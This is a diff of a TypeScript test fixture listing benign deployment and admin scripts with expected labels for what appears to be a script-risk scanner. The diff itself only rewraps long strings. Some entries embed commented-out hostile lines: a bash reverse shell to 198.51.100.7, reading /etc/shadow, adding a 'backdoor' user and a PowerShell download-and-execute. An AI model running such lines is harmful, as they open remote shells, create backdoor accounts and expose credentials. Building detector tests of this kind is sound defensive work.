@@ -7,7 +7,8 @@ export const ordinaryScripts: readonly OrdinaryScript[] = [
   // Deployments
   [
     'docker pull and run',
-    'docker pull registry.example.com/app:1.4.2 && docker stop app || true; docker rm app || true; docker run -d --name app --restart always -p 8080:8080 registry.example.com/app:1.4.2',
+    'docker pull registry.example.com/app:1.4.2 && docker stop app || true; docker rm app || true; docker run -d ' +
+      '--name app --restart always -p 8080:8080 registry.example.com/app:1.4.2',
     [],
   ],
   [
@@ -17,7 +18,8 @@ export const ordinaryScripts: readonly OrdinaryScript[] = [
   ],
   [
     'docker login to ECR',
-    'aws ecr get-login-password --region eu-west-1 | docker login --username AWS --password-stdin 123456789012.dkr.ecr.eu-west-1.amazonaws.com',
+    'aws ecr get-login-password --region eu-west-1 | docker login --username AWS --password-stdin ' +
+      '123456789012.dkr.ecr.eu-west-1.amazonaws.com',
     [],
   ],
   ['docker exec with a shell', "docker exec app sh -c 'bin/migrate && bin/seed'", []],
@@ -29,7 +31,8 @@ export const ordinaryScripts: readonly OrdinaryScript[] = [
   ['npm deployment', 'cd /srv/web && git pull && npm ci --omit=dev && npm run build && pm2 reload web', []],
   [
     'django migration',
-    'source /srv/app/venv/bin/activate && cd /srv/app && python manage.py migrate --noinput && python manage.py collectstatic --noinput',
+    'source /srv/app/venv/bin/activate && cd /srv/app && python manage.py migrate --noinput && python manage.py ' +
+      'collectstatic --noinput',
     [],
   ],
   [
@@ -39,7 +42,8 @@ export const ordinaryScripts: readonly OrdinaryScript[] = [
   ],
   [
     'an artefact from S3',
-    'aws s3 cp s3://artifacts-123456789012/app-1.4.2.tar.gz /tmp/app.tar.gz && tar -xzf /tmp/app.tar.gz -C /opt/app && systemctl restart app',
+    'aws s3 cp s3://artifacts-123456789012/app-1.4.2.tar.gz /tmp/app.tar.gz && tar -xzf /tmp/app.tar.gz -C ' +
+      '/opt/app && systemctl restart app',
     [],
   ],
   [
@@ -60,7 +64,9 @@ export const ordinaryScripts: readonly OrdinaryScript[] = [
   ],
   [
     'CodeDeploy agent',
-    'yum install -y ruby wget\ncd /home/ec2-user\nwget https://aws-codedeploy-eu-west-1.s3.eu-west-1.amazonaws.com/latest/install\nchmod +x ./install\n./install auto\nservice codedeploy-agent status',
+    'yum install -y ruby wget\ncd /home/ec2-user\nwget ' +
+      'https://aws-codedeploy-eu-west-1.s3.eu-west-1.amazonaws.com/latest/install\nchmod +x ./install\n./install ' +
+      'auto\nservice codedeploy-agent status',
     ['download-and-run'],
   ],
   [
@@ -70,7 +76,8 @@ export const ordinaryScripts: readonly OrdinaryScript[] = [
   ],
   [
     'Ansible in a virtual environment',
-    'python3 -m venv /opt/ansible && /opt/ansible/bin/pip install --upgrade pip ansible && /opt/ansible/bin/ansible-playbook -c local /opt/playbooks/web.yml',
+    'python3 -m venv /opt/ansible && /opt/ansible/bin/pip install --upgrade pip ansible && ' +
+      '/opt/ansible/bin/ansible-playbook -c local /opt/playbooks/web.yml',
     [],
   ],
   ['puppet', '/opt/puppetlabs/bin/puppet agent --test --noop || true', []],
@@ -83,56 +90,69 @@ export const ordinaryScripts: readonly OrdinaryScript[] = [
   ['salt', 'salt-call state.apply web test=true', []],
   [
     'kubectl rollout',
-    'kubectl --kubeconfig /etc/deploy/config -n web set image deployment/web web=registry.example.com/web:42 && kubectl -n web rollout status deployment/web',
+    'kubectl --kubeconfig /etc/deploy/config -n web set image deployment/web web=registry.example.com/web:42 && ' +
+      'kubectl -n web rollout status deployment/web',
     [],
   ],
   [
     'kubeadm for a user',
-    'mkdir -p $HOME/.kube && cp -i /etc/kubernetes/admin.conf $HOME/.kube/config && chown $(id -u):$(id -g) $HOME/.kube/config',
+    'mkdir -p $HOME/.kube && cp -i /etc/kubernetes/admin.conf $HOME/.kube/config && chown $(id -u):$(id -g) ' +
+      '$HOME/.kube/config',
     ['credential-files'],
   ],
 
   // Packages and installers
   [
     'apt upgrade',
-    'export DEBIAN_FRONTEND=noninteractive; apt-get update && apt-get -y upgrade && [ -f /var/run/reboot-required ] && shutdown -r +1 || true',
+    'export DEBIAN_FRONTEND=noninteractive; apt-get update && apt-get -y upgrade && [ -f ' +
+      '/var/run/reboot-required ] && shutdown -r +1 || true',
     [],
   ],
   ['yum security updates', 'yum -y update --security && needs-restarting -r', []],
   [
     'AWS patch baseline',
-    "cd /var/lib/amazon/ssm/patch-baseline-operations && python3 -u -c \"import sys; sys.path.insert(1, '.'); import common_startup_entrypoint; common_startup_entrypoint.execute('os_selector', 'PatchLinux', 'Scan')\"",
+    "cd /var/lib/amazon/ssm/patch-baseline-operations && python3 -u -c \"import sys; sys.path.insert(1, '.'); " +
+      "import common_startup_entrypoint; common_startup_entrypoint.execute('os_selector', 'PatchLinux', 'Scan')\"",
     [],
   ],
   ['docker by its installer', 'curl -fsSL https://get.docker.com | sh', ['download-and-run']],
   [
     'docker by its repository',
-    'curl -fsSL https://download.docker.com/linux/ubuntu/gpg | gpg --dearmor -o /usr/share/keyrings/docker.gpg && echo "deb [signed-by=/usr/share/keyrings/docker.gpg] https://download.docker.com/linux/ubuntu jammy stable" > /etc/apt/sources.list.d/docker.list && apt-get update && apt-get install -y docker-ce && usermod -aG docker ubuntu',
+    'curl -fsSL https://download.docker.com/linux/ubuntu/gpg | gpg --dearmor -o /usr/share/keyrings/docker.gpg ' +
+      '&& echo "deb [signed-by=/usr/share/keyrings/docker.gpg] https://download.docker.com/linux/ubuntu jammy ' +
+      'stable" > /etc/apt/sources.list.d/docker.list && apt-get update && apt-get install -y docker-ce && usermod ' +
+      '-aG docker ubuntu',
     [],
   ],
   [
     'docker-compose binary',
-    'curl -L "https://github.com/docker/compose/releases/download/v2.24.0/docker-compose-$(uname -s)-$(uname -m)" -o /usr/local/bin/docker-compose && chmod +x /usr/local/bin/docker-compose && docker-compose version',
+    'curl -L "https://github.com/docker/compose/releases/download/v2.24.0/docker-compose-$(uname -s)-$(uname ' +
+      '-m)" -o /usr/local/bin/docker-compose && chmod +x /usr/local/bin/docker-compose && docker-compose version',
     ['download-and-run'],
   ],
   [
     'a release of a public repository',
-    'wget -q https://github.com/example/tool/releases/download/v1.0.0/tool -O /usr/local/bin/tool && chmod +x /usr/local/bin/tool && tool --version',
+    'wget -q https://github.com/example/tool/releases/download/v1.0.0/tool -O /usr/local/bin/tool && chmod +x ' +
+      '/usr/local/bin/tool && tool --version',
     ['download-and-run'],
   ],
   [
     'AWS CLI',
-    'curl "https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip" -o "awscliv2.zip" && unzip -q awscliv2.zip && ./aws/install --update',
+    'curl "https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip" -o "awscliv2.zip" && unzip -q awscliv2.zip ' +
+      '&& ./aws/install --update',
     [],
   ],
   [
     'CloudWatch agent',
-    'wget -q https://s3.amazonaws.com/amazoncloudwatch-agent/ubuntu/amd64/latest/amazon-cloudwatch-agent.deb && dpkg -i -E ./amazon-cloudwatch-agent.deb && /opt/aws/amazon-cloudwatch-agent/bin/amazon-cloudwatch-agent-ctl -a fetch-config -m ec2 -s -c ssm:cw-config',
+    'wget -q https://s3.amazonaws.com/amazoncloudwatch-agent/ubuntu/amd64/latest/amazon-cloudwatch-agent.deb && ' +
+      'dpkg -i -E ./amazon-cloudwatch-agent.deb && ' +
+      '/opt/aws/amazon-cloudwatch-agent/bin/amazon-cloudwatch-agent-ctl -a fetch-config -m ec2 -s -c ssm:cw-config',
     ['download-and-run'],
   ],
   [
     'CloudWatch agent upgraded',
-    'systemctl stop amazon-cloudwatch-agent && yum -y update amazon-cloudwatch-agent && systemctl start amazon-cloudwatch-agent',
+    'systemctl stop amazon-cloudwatch-agent && yum -y update amazon-cloudwatch-agent && systemctl start ' +
+      'amazon-cloudwatch-agent',
     ['cover-up'],
   ],
   [
@@ -148,17 +168,22 @@ export const ordinaryScripts: readonly OrdinaryScript[] = [
   ],
   [
     'Chocolatey',
-    "Set-ExecutionPolicy Bypass -Scope Process -Force; [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
+    'Set-ExecutionPolicy Bypass -Scope Process -Force; [System.Net.ServicePointManager]::SecurityProtocol = ' +
+      '[System.Net.ServicePointManager]::SecurityProtocol -bor 3072; iex ((New-Object ' +
+      "System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
     ['download-and-run', 'hidden-execution'],
   ],
   [
     'an agent by msiexec',
-    "$url = 'https://s3.amazonaws.com/ec2-downloads-windows/SSMAgent/latest/windows_amd64/AmazonSSMAgentSetup.exe'\nInvoke-WebRequest $url -OutFile $env:TEMP\\SSMAgent.exe\nStart-Process -FilePath $env:TEMP\\SSMAgent.exe -ArgumentList '/S' -Wait\nRestart-Service AmazonSSMAgent",
+    "$url = 'https://s3.amazonaws.com/ec2-downloads-windows/SSMAgent/latest/windows_amd64/" +
+      "AmazonSSMAgentSetup.exe'\nInvoke-WebRequest $url -OutFile $env:TEMP\\SSMAgent.exe\nStart-Process -FilePath " +
+      "$env:TEMP\\SSMAgent.exe -ArgumentList '/S' -Wait\nRestart-Service AmazonSSMAgent",
     ['download-and-run'],
   ],
   [
     'an MSI from S3',
-    'Copy-S3Object -BucketName artifacts -Key app.msi -LocalFile C:\\deploy\\app.msi; msiexec /i C:\\deploy\\app.msi /qn /norestart',
+    'Copy-S3Object -BucketName artifacts -Key app.msi -LocalFile C:\\deploy\\app.msi; msiexec /i ' +
+      'C:\\deploy\\app.msi /qn /norestart',
     [],
   ],
   ['pip and requirements', 'cd /opt/job && python3 -m pip install -r requirements.txt && python3 job.py --once', []],
@@ -170,13 +195,15 @@ export const ordinaryScripts: readonly OrdinaryScript[] = [
   ['curl localhost', 'curl -fsS http://localhost:8080/health || exit 1', []],
   [
     'curl localhost with a loop',
-    'for i in 1 2 3 4 5; do curl -s -o /dev/null -w "%{http_code}" http://127.0.0.1:8080/ | grep -q 200 && exit 0; sleep 5; done; exit 1',
+    'for i in 1 2 3 4 5; do curl -s -o /dev/null -w "%{http_code}" http://127.0.0.1:8080/ | grep -q 200 && exit ' +
+      '0; sleep 5; done; exit 1',
     [],
   ],
   ['curl and jq', 'curl -s http://localhost:9200/_cluster/health | jq -r .status | grep green', []],
   [
     'curl and python json',
-    'curl -s http://localhost:8500/v1/agent/self | python3 -c \'import json,sys; print(json.load(sys.stdin)["Config"]["Version"])\'',
+    "curl -s http://localhost:8500/v1/agent/self | python3 -c 'import json,sys; " +
+      'print(json.load(sys.stdin)["Config"]["Version"])\'',
     [],
   ],
   ['curl and grep bash', 'curl -s localhost/health | grep bash', []],
@@ -214,32 +241,40 @@ export const ordinaryScripts: readonly OrdinaryScript[] = [
   ['time synchronisation', 'timedatectl set-timezone UTC && systemctl restart chronyd && chronyc tracking', []],
   [
     'environment of a script',
-    'ARCH=$(uname -m); HOST=$(hostname -f); if [ "$(id -u)" -ne 0 ]; then echo "run as root"; exit 1; fi; echo "$ARCH on $HOST"',
+    'ARCH=$(uname -m); HOST=$(hostname -f); if [ "$(id -u)" -ne 0 ]; then echo "run as root"; exit 1; fi; echo ' +
+      '"$ARCH on $HOST"',
     [],
   ],
 
   // Metadata that is no credential
   [
     'instance id and region',
-    'TOKEN=$(curl -s -X PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 60")\nID=$(curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/instance-id)\nREGION=$(curl -s http://169.254.169.254/latest/meta-data/placement/region)\naws ec2 create-tags --region $REGION --resources $ID --tags Key=Patched,Value=true',
+    'TOKEN=$(curl -s -X PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: ' +
+      '60")\nID=$(curl -s -H "X-aws-ec2-metadata-token: $TOKEN" ' +
+      'http://169.254.169.254/latest/meta-data/instance-id)\nREGION=$(curl -s ' +
+      'http://169.254.169.254/latest/meta-data/placement/region)\naws ec2 create-tags --region $REGION --resources ' +
+      '$ID --tags Key=Patched,Value=true',
     [],
   ],
   [
     'Azure instance data',
-    'curl -s -H Metadata:true "http://169.254.169.254/metadata/instance?api-version=2021-02-01" | jq -r .compute.location',
+    'curl -s -H Metadata:true "http://169.254.169.254/metadata/instance?api-version=2021-02-01" | jq -r ' +
+      '.compute.location',
     [],
   ],
   ['ECS task data', 'curl -s "$ECS_CONTAINER_METADATA_URI_V4/task" | jq -r .TaskARN', []],
   [
     'a secret by its own service',
-    'PASS=$(aws secretsmanager get-secret-value --secret-id prod/db --query SecretString --output text) && psql "host=db user=app password=$PASS" -c "select 1"',
+    'PASS=$(aws secretsmanager get-secret-value --secret-id prod/db --query SecretString --output text) && psql ' +
+      '"host=db user=app password=$PASS" -c "select 1"',
     [],
   ],
 
   // Files, users, logs
   [
     'log rotation',
-    'cat > /etc/logrotate.d/app <<EOF\n/var/log/app/*.log {\n  daily\n  rotate 7\n  compress\n}\nEOF\nlogrotate -f /etc/logrotate.d/app',
+    'cat > /etc/logrotate.d/app <<EOF\n/var/log/app/*.log {\n  daily\n  rotate 7\n  compress\n}\nEOF\nlogrotate ' +
+      '-f /etc/logrotate.d/app',
     [],
   ],
   [
@@ -263,7 +298,8 @@ export const ordinaryScripts: readonly OrdinaryScript[] = [
   ['a key removed', "sed -i '/jane@example.com/d' /home/ubuntu/.ssh/authorized_keys", []],
   [
     'a restricted sudo rule',
-    "echo 'deploy ALL=(root) NOPASSWD: /bin/systemctl restart app' > /etc/sudoers.d/deploy && visudo -cf /etc/sudoers.d/deploy",
+    "echo 'deploy ALL=(root) NOPASSWD: /bin/systemctl restart app' > /etc/sudoers.d/deploy && visudo -cf " +
+      '/etc/sudoers.d/deploy',
     ['new-account'],
   ],
   ['AWS configuration written', 'mkdir -p ~/.aws && cat > ~/.aws/config <<EOF\n[default]\nregion = eu-west-1\nEOF', []],
@@ -280,7 +316,9 @@ export const ordinaryScripts: readonly OrdinaryScript[] = [
   ],
   [
     'a unit',
-    'cat > /etc/systemd/system/app.service <<EOF\n[Unit]\nDescription=app\n[Service]\nExecStart=/opt/app/bin/server --port 8080\nRestart=always\n[Install]\nWantedBy=multi-user.target\nEOF\nsystemctl daemon-reload && systemctl enable --now app',
+    'cat > /etc/systemd/system/app.service <<EOF\n[Unit]\nDescription=app\n[Service]\nExecStart=/opt/app/bin/' +
+      'server --port 8080\nRestart=always\n[Install]\nWantedBy=multi-user.target\nEOF\nsystemctl daemon-reload && ' +
+      'systemctl enable --now app',
     ['persistence'],
   ],
   ['a backup task', 'schtasks /create /tn Backup /tr "C:\\scripts\\backup.bat" /sc daily /st 02:00', ['persistence']],
@@ -298,7 +336,8 @@ export const ordinaryScripts: readonly OrdinaryScript[] = [
   ['a comment', '# cat /etc/shadow\n# bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\nsystemctl restart app', []],
   [
     'a comment in PowerShell',
-    "<#\n net user backdoor x /add\n IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\n#>\nRestart-Service W3SVC",
+    '<#\n net user backdoor x /add\n IEX (New-Object ' +
+      "Net.WebClient).DownloadString('http://198.51.100.7/a')\n#>\nRestart-Service W3SVC",
     [],
   ],
   ['a remark at the prompt', '@echo off\nrem net user backdoor x /add\niisreset', []],
@@ -328,7 +367,8 @@ export const ordinaryScripts: readonly OrdinaryScript[] = [
   ['a Defender switch back on', 'Set-MpPreference -DisableRealtimeMonitoring $false; Update-MpSignature', []],
   [
     'a clear-text login switch off',
-    'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 0 /f',
+    'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t ' +
+      'REG_DWORD /d 0 /f',
     [],
   ],
   ['a sensor restarted', 'systemctl restart falcon-sensor && systemctl status falcon-sensor', []],
